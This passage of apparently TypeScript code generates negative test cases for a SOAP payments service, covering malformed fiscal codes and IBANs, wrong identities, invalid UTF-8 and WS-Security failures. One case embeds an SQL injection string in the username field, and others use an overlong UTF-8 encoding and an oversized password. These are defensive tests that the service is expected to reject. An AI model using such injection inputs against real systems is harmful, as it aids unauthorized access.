  upload('person-day-99', debtor('RSSMRA85T99A562S'), OK, `a person fiscal code with day 99 is ${itemKo}`);
  upload(
    'person-15-chars',
    debtor('RSSMRA85T10A562'),
    OK,
    `a person fiscal code of 15 characters is ${itemKo}`,
  );
  upload(
    'person-lowercase',
    debtor('rssmra85t10a562s'),
    xsdKo(GEST),
    'a lower-case person fiscal code: KO PPAY_XSD_INVALID',
  );
  upload(
    'company-wrong-check-digit',
    debtor('01234567890', 'G'),
    OK,
    `a company VAT number with a wrong check digit is ${itemKo}`,
  );
  upload('company-with-letters', debtor('0123456789A', 'G'), OK, `a company code with a letter is ${itemKo}`);
  upload(
    'person-bad-omocodia-letter',
    debtor('RSSMRAA5T10A562S'),
    OK,
    `a person fiscal code with a letter outside the omocodia set is ${itemKo}`,
  );
  upload('company-12-digits', debtor('012345678970', 'G'), OK, `a company code of 12 digits is ${itemKo}`);
  upload(
    'debtor-with-space',
    debtor('RSSMRA85T10 A562S'),
    xsdKo(GEST),
    'a fiscal code with a space: KO PPAY_XSD_INVALID',
  );
  const iban = (value: string) => (xml: string) => setText(xml, 'iban', value);
  upload(
    'iban-wrong-checksum',
    iban('IT93F0306901000100000046001'),
    OK,
    `an IBAN with a wrong checksum is ${itemKo}`,
  );
  upload(
    'iban-unknown-country',
    iban('XX92F0306901000100000046001'),
    OK,
    `an IBAN of an unknown country is ${itemKo}`,
  );
  upload(
    'iban-it-too-short',
    iban('IT92F030690100010000004600'),
    OK,
    `an Italian IBAN one character short is ${itemKo}`,
  );
  upload(
    'iban-it-too-long',
    iban('IT92F03069010001000000460011'),
    OK,
    `an Italian IBAN one character long is ${itemKo}`,
  );
  upload(
    'iban-lowercase',
    iban('it92f0306901000100000046001'),
    xsdKo(GEST),
    'a lower-case IBAN: KO PPAY_XSD_INVALID',
  );
  upload(
    'iban-with-spaces',
    iban('IT92 F030 6901 0001 0000 0046 001'),
    xsdKo(GEST),
    'an IBAN written with spaces: KO PPAY_XSD_INVALID',
  );
  upload(
    'iban-check-digits-00',
    iban('IT00F0306901000100000046001'),
    OK,
    `an IBAN with check digits 00 (never valid) is ${itemKo}`,
  );
  add(
    'verify-idPA-bad-check',
    B.verify,
    setText(setText(B.verify.xml, 'idPA', '01234567890'), 'fiscalCode', '01234567890'),
    ko('PAA_ID_DOMINIO_ERRATO'),
    'a verify for an ente code with a wrong check digit: KO PAA_ID_DOMINIO_ERRATO',
  );
  add(
    'requestIUV-ente-bad-check',
    B.requestIUV,
    setText(B.requestIUV.xml, 'enteFiscalCode', '01234567890'),
    ko('PPAY_ENTE_UNKNOWN'),
    'requestIUV for an ente code with a wrong check digit: KO PPAY_ENTE_UNKNOWN, nothing allocated',
  );
  add(
    'startPayment-debtor-bad-check',
    B.startPayment,
    setText(B.startPayment.xml, 'fiscalCode', 'GLLPLA99H08D969X'),
    ko('PPAY_INVALID_INPUT'),
    'startPayment with a debtor fiscal code whose check character is wrong: KO PPAY_INVALID_INPUT, no position nor session',
  );
  add(
    'startPayment-iban-bad-checksum',
    B.startPayment,
    setText(B.startPayment.xml, 'iban', 'IT93F0306901000100000046001'),
    ko('PPAY_INVALID_INPUT'),
    'startPayment with an IBAN whose checksum is wrong: KO PPAY_INVALID_INPUT',
  );
}

// ---- identity: ente, broker, station, station password ------------------------------------------------------
category = 'identity';
{
  const id = (
    name: string,
    base: Base,
    field: string,
    value: string,
    code: string,
    what: string,
    options: AddOptions = {},
  ) => add(name, base, setText(base.xml, field, value), ko(code), `${what}: KO ${code}`, options);
  id(
    'verify-unknown-ente',
    B.verify,
    'idPA',
    '11111111115',
    'PAA_ID_DOMINIO_ERRATO',
    'a verify for an unknown ente',
  );
  id(
    'getPayment-wrong-broker',
    B.getPayment,
    'idBrokerPA',
    '99999999990',
    'PAA_ID_INTERMEDIARIO_ERRATO',
    'an activation through another broker (nothing activated)',
  );
  id(
    'getPaymentV2-wrong-station',
    B.getPaymentV2,
    'idStation',
    '12345678903_99',
    'PAA_STAZIONE_INT_ERRATA',
    'a V2 activation through a station the ente does not use',
  );
  id(
    'receipt-unknown-ente',
    B.sendRT,
    'idPA',
    '11111111115',
    'PAA_ID_DOMINIO_ERRATO',
    'a receipt for an unknown ente (nothing stored)',
  );
  id(
    'receiptV2-wrong-broker',
    B.sendRTV2,
    'idBrokerPA',
    '99999999990',
    'PAA_ID_INTERMEDIARIO_ERRATO',
    'a V2 receipt through another broker (nothing stored)',
  );
  id(
    'demand-wrong-station',
    B.demand,
    'idStation',
    '12345678903_99',
    'PAA_STAZIONE_INT_ERRATA',
    'a spontaneous payment through another station (no notice created)',
  );
  id(
    'legacy-verify-unknown-dominio',
    B.verificaRPT,
    'identificativoDominio',
    '11111111115',
    'PAA_ID_DOMINIO_ERRATO',
    'a legacy verify for an unknown dominio',
  );
  id(
    'legacy-activation-wrong-broker',
    B.attivaRPT,
    'identificativoIntermediarioPA',
    '99999999990',
    'PAA_ID_INTERMEDIARIO_ERRATO',
    'a legacy activation through another intermediary (no attempt recorded)',
  );
  id(
    'legacy-rt-wrong-station',
    B.inviaRT,
    'identificativoStazioneIntermediarioPA',
    '12345678903_99',
    'PAA_STAZIONE_INT_ERRATA',
    'a legacy RT through another station (no RT stored)',
  );
  id(
    'legacy-avviso-unknown-dominio',
    B.chiediNumero,
    'identificativoDominio',
    '11111111115',
    'PAA_ID_DOMINIO_ERRATO',
    'a notice number request for an unknown dominio (no notice created)',
  );
  id(
    'gest-unknown-ente',
    B.listPayments,
    'enteFiscalCode',
    '11111111115',
    'PPAY_ENTE_UNKNOWN',
    'listPayments for an ente that does not exist',
  );
  id(
    'gest-unknown-service',
    B.requestIUV,
    'serviceCode',
    'NOPE',
    'PPAY_SERVICE_UNKNOWN',
    'requestIUV for an unknown service (nothing allocated)',
  );
  const node = (
    name: string,
    base: Base,
    field: string,
    value: string,
    code: string,
    what: string,
    options: AddOptions = {},
  ) => add(name, base, setText(base.xml, field, value), nodeKo(code), `${what}: KO ${code}`, options);
  node(
    'emulator-wrong-password',
    B.statoRPT,
    'password',
    'WrongPass01',
    'PPT_AUTENTICAZIONE',
    'the node refuses a wrong station password',
  );
  node(
    'emulator-unknown-station',
    B.statoRPT,
    'identificativoStazioneIntermediarioPA',
    '12345678903_99',
    'PPT_STAZIONE_INT_PA_SCONOSCIUTA',
    'the node refuses an unknown station',
  );
  node(
    'emulator-unknown-broker',
    B.elencoFlussi,
    'identificativoIntermediarioPA',
    '99999999990',
    'PPT_INTERMEDIARIO_PA_SCONOSCIUTO',
    'the node refuses an unknown intermediary',
  );
  node(
    'emulator-flows-wrong-password',
    B.elencoFlussiNew,
    'password',
    'WrongPass01',
    'PPT_AUTENTICAZIONE',
    'nodeForPa refuses a wrong station password when listing flows',
  );
}

// ---- invalid UTF-8 -----------------------------------------------------------------------------------------
category = 'invalid-utf8';
{
  const bytes = (xml: string, marker: string, raw: number[]) => {
    const [head, tail] = xml.split(marker) as [string, string];
    return Buffer.concat([Buffer.from(head, 'utf8'), Buffer.from(raw), Buffer.from(tail, 'utf8')]);
  };
  const M = '@@BYTES@@';
  add(
    'lone-continuation-in-receipt',
    B.sendRT,
    bytes(setText(B.sendRT.xml, 'description', `TARI ${M} 2026`), M, [0x80]),
    CLIENT,
    'a lone continuation byte in a receipt description is a soap:Client Fault, nothing stored (never replaced by U+FFFD)',
  );
  add(
    'latin1-byte-in-upload',
    B.upload,
    bytes(setText(ownUpload(B.upload.xml, 'UTF8-1'), 'fullName', `Nicol${M}`), M, [0xe0]),
    CLIENT,
    'a Latin-1 à (0xE0) in an upload is a soap:Client Fault, nothing stored',
  );
  add(
    'overlong-slash',
    B.verify,
    bytes(setText(B.verify.xml, 'idStation', `12345678903${M}01`), M, [0xc0, 0xaf]),
    CLIENT,
    'an overlong encoding of / is a soap:Client Fault',
  );
  add(
    'utf16-surrogate',
    B.sendRTV2,
    bytes(setText(B.sendRTV2.xml, 'paymentNote', `note ${M}`), M, [0xed, 0xa0, 0x80]),
    CLIENT,
    'an encoded UTF-16 surrogate is a soap:Client Fault',
  );
  add(
    'ff-byte',
    B.requestIUV,
    bytes(setText(B.requestIUV.xml, 'serviceCode', `TARI${M}`), M, [0xff]),
    CLIENT,
    'a 0xFF byte is a soap:Client Fault, nothing allocated',
  );
  add(
    'truncated-sequence',
    B.attivaRPT,
    bytes(setText(B.attivaRPT.xml, 'identificativoPSP', `ABCD${M}`), M, [0xe2, 0x82]),
    CLIENT,
    'a truncated three-byte sequence is a soap:Client Fault',
  );
  add(
    'invalid-in-element-name',
    B.verify,
    bytes(B.verify.xml.replace('<idPA>01234567897</idPA>', `<idPA${M}>01234567897</idPA${M}>`), M, [0xfe]),
    CLIENT,
    'an invalid byte inside an element name is a soap:Client Fault',
  );
  add(
    'invalid-in-attribute',
    B.getDebtPosition,
    bytes(B.getDebtPosition.xml.replace('<soapenv:Body>', `<soapenv:Body a="${M}">`), M, [0xc3, 0x28]),
    CLIENT,
    'an invalid two-byte sequence in an attribute value is a soap:Client Fault',
  );
  add(
    'invalid-in-comment',
    B.verify,
    bytes(
      B.verify.xml.replace('<soapenv:Body>', `<soapenv:Body><!-- ${M} -->`),
      M,
      [0xf8, 0x88, 0x80, 0x80, 0x80],
    ),
    CLIENT,
    'a five-byte sequence inside a comment is a soap:Client Fault',
  );
  add(
    'invalid-in-ws-password',
    B.requestIUV,
    bytes(B.requestIUV.xml.replace(DEMO_PASSWORD, `${DEMO_PASSWORD}${M}`), M, [0x9f]),
    CLIENT,
    'an invalid byte in the WS-Security password is a soap:Client Fault',
  );
  add(
    'latin1-declared-latin1',
    B.releaseNotices,
    bytes(
      setText(
        B.releaseNotices.xml.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'),
        'reason',
        `Citt${M} chiusa`,
      ),
      M,
      [0xe0],
    ),
    CLIENT,
    'a document declaring ISO-8859-1 with a Latin-1 byte is a soap:Client Fault (UTF-8 only): nothing released',
  );
  add(
    'invalid-to-emulator',
    B.statoRPT,
    bytes(setText(B.statoRPT.xml, 'codiceContestoPagamento', `CCP${M}`), M, [0xc1, 0xbf]),
    CLIENT,
    'an invalid sequence to the emulator node is a soap:Client Fault',
  );
}

// ---- WS-Security -----------------------------------------------------------------------------------------
category = 'ws-security';
{
  const plain = readValid('requestIUV', 'valid-tari');
  const base = B.requestIUV;
  add(
    'no-header',
    base,
    plain.replace('<soapenv:Header/>', ''),
    CLIENT,
    'requestIUV without a Header is a soap:Client Fault (Authentication failed), nothing allocated',
  );
  add('header-without-security', base, plain, CLIENT, 'an empty Header is a soap:Client Fault');
  add(
    'security-without-token',
    base,
    withHeader(plain, `<wsse:Security xmlns:wsse="${WSSE}"/>`),
    CLIENT,
    'a Security header without UsernameToken is a soap:Client Fault',
  );
  add(
    'wrong-password',
    base,
    withSecurity(plain, DEMO_USER, 'not-the-password'),
    CLIENT,
    'a wrong password is a soap:Client Fault',
  );
  add(
    'unknown-user',
    base,
    withSecurity(plain, 'nobody-here', DEMO_PASSWORD),
    CLIENT,
    'an unknown username is a soap:Client Fault',
  );
  add(
    'password-digest',
    base,
    withSecurity(plain, DEMO_USER, 'bm90LWEtZGlnZXN0', PASSWORD_DIGEST),
    CLIENT,
    'a PasswordDigest (not supported) is a soap:Client Fault',
  );
  add(
    'digest-type-with-clear-password',
    base,
    withSecurity(plain, DEMO_USER, DEMO_PASSWORD, PASSWORD_DIGEST),
    CLIENT,
    'the right password typed as PasswordDigest is refused too (soap:Client Fault)',
  );
  add(
    'revoked-client',
    base,
    withSecurity(plain, 'hostile-revoked', 'hostile-revoked-password'),
    CLIENT,
    'a revoked credential is a soap:Client Fault',
  );
  add(
    'empty-password',
    base,
    withSecurity(plain, DEMO_USER, ''),
    CLIENT,
    'an empty password is a soap:Client Fault',
  );
  add(
    'old-wsse-namespace',
    base,
    withSecurity(
      plain,
      DEMO_USER,
      DEMO_PASSWORD,
      PASSWORD_TEXT,
      'http://schemas.xmlsoap.org/ws/2002/07/secext',
    ),
    CLIENT,
    'a token in the draft 2002 namespace is a soap:Client Fault',
  );
  add(
    'sql-in-username',
    base,
    withSecurity(plain, "demo-gestionale' OR '1'='1", DEMO_PASSWORD),
    CLIENT,
    'an SQL injection in the username is a soap:Client Fault',
  );
  add(
    'wrong-then-right-security',
    base,
    withHeader(
      withSecurity(plain),
      `<wsse:Security xmlns:wsse="${WSSE}"><wsse:UsernameToken><wsse:Username>${DEMO_USER}</wsse:Username><wsse:Password>wrong</wsse:Password></wsse:UsernameToken></wsse:Security>`,
    ),
    CLIENT,
    'two Security headers, the first wrong: soap:Client Fault (the first one counts)',
  );
  add(
    'huge-password',
    base,
    withSecurity(plain, DEMO_USER, '@@PASSWORD@@'),
    CLIENT,
    'a 100 kB password is a soap:Client Fault, answered quickly',
    {
      expand: [{ marker: '@@PASSWORD@@', fill: 'p', times: 100000 }],
    },
  );
  add(
    'other-ente-credential',
    base,
    withSecurity(plain, 'hostile-other-ente', 'hostile-other-ente-password'),
    ko('PPAY_UNAUTHORIZED'),
    'a credential bound to another ente: KO PPAY_UNAUTHORIZED, nothing allocated',
  );
  add(
    'credential-in-body',
    base,
    intoPayload(
      plain,
      `<wsse:Security xmlns:wsse="${WSSE}"><wsse:UsernameToken><wsse:Username>${DEMO_USER}</wsse:Username><wsse:Password>${DEMO_PASSWORD}</wsse:Password></wsse:UsernameToken></wsse:Security>`,
    ),
    CLIENT,
    'a UsernameToken inside the Body (not the Header) is a soap:Client Fault',
  );
}

// ---------------------------------------------------------------------------------------------
// Writing

function write(): void {
  fs.rmSync(OUT, { recursive: true, force: true });
  const names = new Set<string>();
  for (const c of cases) {
    const key = `${c.category}/${c.name}`;
    if (names.has(key)) throw new Error(`duplicate case ${key}`);
    names.add(key);
    const dir = path.join(OUT, c.category, c.name);
    fs.mkdirSync(dir, { recursive: true });
    const bodyFile = c.binary ? 'request.bin' : 'request.xml';
    fs.writeFileSync(path.join(dir, bodyFile), c.body);
    const spec = {
      description: c.description,
      endpoint: c.endpoint,
      headers: c.headers,
      body: bodyFile,
      ...(c.expand ? { expand: c.expand } : {}),
      expect: c.expect,
      ...(c.allowedChanges ? { allowedChanges: c.allowedChanges } : {}),
    };
    fs.writeFileSync(path.join(dir, 'case.json'), `${JSON.stringify(spec, null, 2)}\n`);
  }
  const counts = new Map<string, number>();
  for (const c of cases) counts.set(c.category, (counts.get(c.category) ?? 0) + 1);
  for (const [name, n] of counts) process.stdout.write(`${name}: ${n}\n`);
  process.stdout.write(`total: ${cases.length}\n`);
}

write();
